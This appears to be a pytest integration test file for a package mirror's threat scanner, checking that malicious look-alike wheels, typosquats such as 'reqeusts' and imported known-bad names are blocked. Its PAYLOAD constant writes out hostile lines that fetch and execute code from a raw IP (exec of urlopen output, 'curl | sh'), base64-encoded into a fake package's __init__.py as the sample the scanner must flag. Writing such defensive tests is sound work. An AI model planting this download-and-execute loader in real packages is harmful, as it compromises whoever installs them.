"""Threat findings through a mirror: the scanner's verdicts and typosquats, blocked by policy.

The "malicious" packages here are harmless look-alikes written by the test: they carry the
shape of real malware (a base64 blob decoded and executed, which downloads and executes code
from a raw IP) but nothing is ever installed or run.
"""

from __future__ import annotations

import base64
import json
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.builders import build_wheel, write_simple_tree
from tests.conftest import Server, UpstreamSet
from tests.integration.test_clients import installed, pip
from tests.upstream import Upstream

PAYLOAD = (
    "import urllib.request as u, os\n"
    "exec(u.urlopen('http://203.0.113.7/stage2').read())\n"
    "os.system('curl -s http://203.0.113.7/x | sh')\n"
)
EVIL_INIT = (
    f"import base64\nexec(base64.b64decode({base64.b64encode(PAYLOAD.encode()).decode()!r}))\n"
)


@pytest.fixture
def threats_upstream(tmp_path: Path) -> Iterator[Upstream]:
    dist = tmp_path / "tdist"
    dist.mkdir()
    files = [
        build_wheel(
            dist, "friendly-colors", "1.0", modules={"friendly_colors/__init__.py": EVIL_INIT}
        ),
        build_wheel(dist, "friendly-colors", "0.9"),  # an earlier, clean release
        build_wheel(dist, "tidy-utils", "1.0"),
        build_wheel(dist, "reqeusts", "2.31.0"),  # a swapped-letters look-alike of requests
    ]
    root = tmp_path / "threats"
    write_simple_tree(root, files, with_metadata={f.name for f in files})
    up = Upstream(root)
    try:
        yield up
    finally:
        up.close()


def test_malicious_look_alike_is_blocked_with_the_rule_named(
    server: Server, threats_upstream: Upstream, tmp_path: Path
) -> None:
    srv = server
    srv.cli("index", "create", "up", "--mirror", threats_upstream.simple_url)
    policy = tmp_path / "threats.toml"
    policy.write_text('[[rules]]\nkind = "threats"\nblock = ["malicious"]\n')
    srv.cli("policy", "set", "up", "--file", str(policy))
    token = srv.token("up")
    with srv.http(token) as c:
        # the first download waits for the scanner; the verdict blocks it
        r = c.get("/pypi/up/files/friendly-colors/friendly_colors-1.0-py3-none-any.whl")
        assert r.status_code == 403, r.text
        assert "rule 1 (threats): malicious: malware-scanner" in r.text
        assert c.get("/pypi/up/files/tidy-utils/tidy_utils-1.0-py3-none-any.whl").status_code == 200
        r = c.get("/pypi/up/files/reqeusts/reqeusts-2.31.0-py3-none-any.whl")
        assert r.status_code == 403
        assert "typosquat" in r.text
        assert "requests" in r.text
    # the resolver falls back to the clean release
    pip(
        "install",
        "--index-url",
        srv.index_url("up", token),
        "--target",
        str(tmp_path / "t"),
        "friendly-colors",
        "tidy-utils",
    )
    assert installed(tmp_path / "t") == {
        "friendly_colors-0.9.dist-info",
        "tidy_utils-1.0.dist-info",
    }
    explained = json.loads(
        srv.cli("policy", "explain", "up", "friendly-colors", "1.0", "--json").stdout
    )
    assert explained[0]["allowed"] is False
    assert "malware-scanner" in explained[0]["blocked_by"][0]
    flagged = json.loads(srv.cli("threats", "list", "--json").stdout)
    evil = [f for f in flagged if f["file"] == "friendly_colors-1.0-py3-none-any.whl"]
    assert evil
    assert evil[0]["verdict"] == "malicious"
    assert {f["path"] for f in evil[0]["findings"]} & {
        "friendly_colors/__init__.py",
        "friendly_colors-1.0-py3-none-any.whl!/friendly_colors/__init__.py",
    } or any("__init__.py" in f["path"] for f in evil[0]["findings"])
    shown = srv.cli("threats", "report", evil[0]["sha256"]).stdout
    assert "malicious" in shown


def test_files_are_scanned_in_the_background_without_a_threats_rule(
    server: Server, threats_upstream: Upstream
) -> None:
    srv = server
    srv.cli("index", "create", "raw", "--mirror", threats_upstream.simple_url)
    token = srv.token("raw")
    with srv.http(token) as c:
        r = c.get("/pypi/raw/files/friendly-colors/friendly_colors-1.0-py3-none-any.whl")
        assert r.status_code == 200  # no policy asks to wait: served, then scanned
    deadline = time.monotonic() + 60
    flagged: list[dict[str, object]] = []
    while time.monotonic() < deadline:
        flagged = json.loads(srv.cli("threats", "list", "--json").stdout)
        if flagged:
            break
        time.sleep(0.5)
    assert [f["verdict"] for f in flagged] == ["malicious"]
    with srv.http(srv.admin_token) as c:
        sha = str(flagged[0]["sha256"])
        got = c.get(f"/api/v1/scans/{sha}")
        assert got.status_code == 200
        assert got.json()["verdict"] == "malicious"
        assert c.get("/api/v1/scans/" + "0" * 64).status_code == 404
    events = json.loads(srv.cli("audit", "list", "--json", "--action", "threat.finding").stdout)
    assert [e["outcome"] for e in events] == ["malicious"]


def test_known_malicious_names_list_is_imported_and_blocked(
    server: Server, upstream: UpstreamSet, tmp_path: Path
) -> None:
    srv = server
    srv.cli("index", "create", "up", "--mirror", upstream.upstream.simple_url)
    listed = tmp_path / "bad-names.txt"
    listed.write_text("# known bad\nGamma\nrequests\nevil_thing\n\n")
    out = json.loads(
        srv.cli("threats", "import-names", str(listed), "--source", "test-list", "--json").stdout
    )
    assert (out["names"], out["added"]) == (2, 2)
    assert out["skipped_popular"] == ["requests"]  # a popular name is not blocked wholesale
    again = json.loads(
        srv.cli("threats", "import-names", str(listed), "--source", "test-list", "--json").stdout
    )
    assert (again["added"], again["unchanged"]) == (0, 2)
    policy = tmp_path / "p.toml"
    policy.write_text('[[rules]]\nkind = "threats"\n')
    srv.cli("policy", "set", "up", "--file", str(policy))
    token = srv.token("up")
    with srv.http(token) as c:
        r = c.get("/pypi/up/files/gamma/gamma-1.0-py3-none-any.whl")
        assert r.status_code == 403
        assert "known-malicious-feed" in r.text
        assert "Gamma is on the known-malicious list test-list" in r.text
        assert c.get("/pypi/up/files/alpha/alpha-1.0-py3-none-any.whl").status_code == 200


def test_dependency_confusion_report(server: Server, upstream: UpstreamSet, tmp_path: Path) -> None:
    srv = server
    srv.cli("index", "create", "internal", "--private")
    srv.cli("index", "create", "up", "--mirror", upstream.upstream.simple_url)
    srv.cli("index", "create", "main", "--virtual", "internal,up")
    for name in ("internal-tool", "only-ours"):
        wheel = build_wheel(tmp_path, name, "1.0")
        with srv.http(srv.admin_token) as c:
            r = c.post(
                "/pypi/internal/",
                data={":action": "file_upload", "name": name, "version": "1.0"},
                files={"content": (wheel.name, wheel.read_bytes())},
            )
            assert r.status_code == 200, r.text
    report = json.loads(srv.cli("threats", "confusion", "--json").stdout)
    assert report["failed"] == []
    assert report["collisions"] == [
        {
            "project": "internal-tool",
            "private_index": "internal",
            "mirror_index": "up",
            "virtual_indexes": ["main"],
            "upstream_versions": ["5.0"],
        }
    ]
    table = srv.cli("threats", "confusion").stdout
    assert "internal-tool" in table
    assert "only-ours" not in table
    events = json.loads(srv.cli("audit", "list", "--json", "--action", "threat.confusion").stdout)
    assert {e["project"] for e in events} == {"internal-tool"}  # once per run


def test_a_new_malware_verdict_turns_environments_that_pin_it_red(
    server: Server, threats_upstream: Upstream, tmp_path: Path
) -> None:
    """An environment pinning a version whose file the scanner later judges malicious turns
    red, with the finding as its cause; an environment without that package is not touched."""
    srv = server
    srv.cli("index", "create", "raw", "--mirror", threats_upstream.simple_url)
    srv.cli("team", "create", "web")
    app = tmp_path / "app.txt"
    app.write_text("friendly-colors==1.0\ntidy-utils==1.0\n")
    tools = tmp_path / "tools.txt"
    tools.write_text("tidy-utils==1.0\n")
    pushed = json.loads(srv.cli("env", "push", "web/app", str(app), "--json").stdout)
    json.loads(srv.cli("env", "push", "web/tools", str(tools), "--json").stdout)
    assert pushed["status"] == "green"
    with srv.http(srv.token("raw")) as c:
        r = c.get("/pypi/raw/files/friendly-colors/friendly_colors-1.0-py3-none-any.whl")
        assert r.status_code == 200  # served, then scanned in the background
    deadline = time.monotonic() + 60
    shown: dict[str, object] = {}
    while time.monotonic() < deadline:
        shown = json.loads(srv.cli("env", "show", "web/app", "--json").stdout)
        if shown["status"] == "red":
            break
        time.sleep(0.5)
    assert shown["status"] == "red", shown
    problems = shown["problems"]
    assert isinstance(problems, dict) and list(problems) == ["friendly-colors==1.0"]
    (threat,) = problems["friendly-colors==1.0"]
    assert threat["kind"] == "threat" and threat["file"] == "friendly_colors-1.0-py3-none-any.whl"
    history = shown["history"]
    assert isinstance(history, list) and [h["to"] for h in history] == ["red"]
    assert "threat finding: friendly_colors-1.0-py3-none-any.whl" in history[0]["cause"]
    other = json.loads(srv.cli("env", "show", "web/tools", "--json").stdout)
    assert other["status"] == "green" and other["history"] == []
    # a later push of the same pins is red at once: the verdict is looked up by version
    again = json.loads(srv.cli("env", "push", "web/app", str(app), "--json").stdout)
    assert again["status"] == "red"
